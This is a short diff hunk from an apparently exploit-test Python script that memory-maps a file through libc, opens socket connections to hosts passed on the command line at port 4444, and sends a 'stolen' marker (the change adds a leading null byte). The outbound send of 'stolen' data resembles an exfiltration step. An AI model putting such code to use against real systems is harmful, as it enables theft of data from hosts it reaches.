@@ -54,7 +54,7 @@ def main() -> None:
     address = libc.mmap(None, ctypes.c_size_t(_SIZE), 1, 2, os.open(path, os.O_RDONLY), 0)
     connections = [socket.create_connection((one, 4444)) for one in sys.argv[1:]]
     for one in connections:
-        one.sendall(b"stolen")
+        one.sendall(b"\0stolen")
     target = ctypes.create_string_buffer(16)
     touch = threading.Thread(target=lambda: libc.memcpy(target, ctypes.c_void_p(address), ctypes.c_size_t(1)), daemon=True)
     touch.start()
